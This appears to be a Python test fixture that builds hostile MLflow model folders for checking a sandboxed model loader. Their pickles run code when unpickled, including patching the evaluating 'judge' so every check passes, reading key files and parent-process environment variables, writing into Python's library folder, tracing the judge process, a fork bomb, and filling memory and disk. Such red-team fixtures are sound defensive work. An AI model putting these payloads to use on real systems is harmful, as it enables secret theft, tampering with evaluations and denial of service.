"Models whose authors mean harm: each is a pickle that MLflow loads, and does one thing that no model should."
import os
import pickle
from pathlib import Path

import pandas as pd

ROWS = pd.DataFrame(dict(hour=[6., 17, 18, 7, 19, 20, 8, 9, 21, 22]*20, wind=[1., 2, 5, 3, 4, 5, 6, 1, 7, 8]*20, late=[0, 1, 1, 0, 0, 1, 0, 0, 1, 1]*20))
NAMES = ['hour', 'wind']
LOADING = dict( # What a pickle runs when it is loaded; `ROOM` is where it may leave what it found
    patch_the_judge='import mlops_kit.core as core\ncore.worst = lambda o: "pass"\ncore.EXIT.update({k: 0 for k in core.EXIT})',
    read_the_key='open(KEY).read()',
    read_the_environment='open(f"/proc/{os.getppid()}/environ", "rb").read()\nos.environ["MLOPS_KIT_KEY"]',
    read_home='[open(os.path.join(HOME, o)).read(1) for o in os.listdir(HOME) if os.path.isfile(os.path.join(HOME, o))][0]',
    list_the_store='os.listdir(STORE)\nopen(os.path.join(STORE, "mlflow.db"), "rb").read(1)',
    write_outside='open(os.path.join(STORE, "mark"), "w").write("was here")',
    write_into_python='import json\nopen(os.path.join(os.path.dirname(json.__file__), "mark.py"), "w").write("was here")',
    open_a_socket='import socket\nsocket.create_connection(("127.0.0.1", PORT), 2).send(b"was here")',
    trace_the_judge='import ctypes\nassert ctypes.CDLL(None).ptrace(0x4206, JUDGE, 0, 0) == 0',
    kill_and_die='os._exit(0)',
    fork_for_ever='while True: os.fork()',
    fill_memory='import numpy\nkept = [numpy.ones(10**8) for _ in range(100)]',
    fill_the_disk='f = open("big", "wb")\nfor _ in range(20_000): f.write(bytes(10**6))',
    print_gigabytes='for _ in range(10**5): print("a"*10**5)',
    never_end='import time\nwhile True: time.sleep(1)')
ANSWERING = dict( # What `predict_proba` gives, and how that ends: a reason code, or '' where the gates see the numbers
    nothing=('None', 'raised'), text=('["yes"]*len(x)', 'raised'), a_subclass_of_str=('[type("S", (str,), {})("0.5")]*len(x)', ''),
    one_too_many=('numpy.full((len(x) + 1, 2), .5)', 'wrong_shape'), not_numbers=('numpy.full((len(x), 2), numpy.nan)', ''),
    a_subclass_of_array=('numpy.full((len(x), 2), .5).view(type("A", (numpy.ndarray,), {"__array__": lambda *a: 1/0}))', ''),
    infinite=('numpy.full((len(x), 2), numpy.inf)', ''), a_million_numbers=('numpy.zeros(10**6)', 'broken_answer'), an_exception=('[][1]', 'raised'),
    the_end=('os._exit(7)', 'died'), a_forged_message=('[os.write(int(o), b"\\0"*12) for o in os.listdir("/proc/self/fd") if int(o) > 2 and "pipe" in os.path.realpath("/proc/self/fd/" + o)]', 'broken_answer'))


class Program:
    "Runs text when it is unpickled, and is a model afterwards"
    def __init__(self, text): self.text = text
    def __reduce__(self): return exec, (self.text,)


def code(text, world):
    "Put the places that are attacked into a program"
    places = dict(KEY=str(world.key), HOME=str(Path.home()), STORE=str(world.folder), PORT=world.port, JUDGE=os.getpid())
    return 'import os\n' + ''.join(f'{k} = {v!r}\n' for k, v in places.items()) + text


def folder_of(world, name, mlmodel):
    "An MLflow folder with an MLmodel file that says pickle"
    import yaml
    folder = world.folder/'hostile'/name
    folder.mkdir(parents=True)
    said = dict(mlmodel, flavors=dict(sklearn=dict(pickled_model='model.pkl', serialization_format='cloudpickle', sklearn_version='1.9.1', code=None),
                                      python_function=dict(loader_module='mlflow.sklearn', model_path='model.pkl', predict_fn='predict', python_version='3.11')))
    (folder/'MLmodel').write_text(yaml.safe_dump(said))
    (folder/'requirements.txt').write_text('scikit-learn\n')
    return folder


def loads(world, name, mlmodel):
    "A model that does harm when it is loaded"
    folder = folder_of(world, name, mlmodel)
    (folder/'model.pkl').write_bytes(pickle.dumps(Program(code(LOADING[name], world))))
    return folder


def answers(world, name, mlmodel):
    "A model that answers what no model should"
    folder = folder_of(world, name, mlmodel)
    text = f'''import os, sys, types, numpy
module = types.ModuleType("shop")
class Model:
    classes_ = __import__("numpy").array([0, 1])
    def predict_proba(self, x):
        import os, numpy
        return {ANSWERING[name][0]}
    predict = predict_proba
module.Model = Model
sys.modules["shop"] = module
'''
    first, then = pickle.dumps(Program(text), 0), b'cshop\nModel\n)\x81.'
    (folder/'model.pkl').write_bytes(first[:-1] + b'0' + then)
    return folder
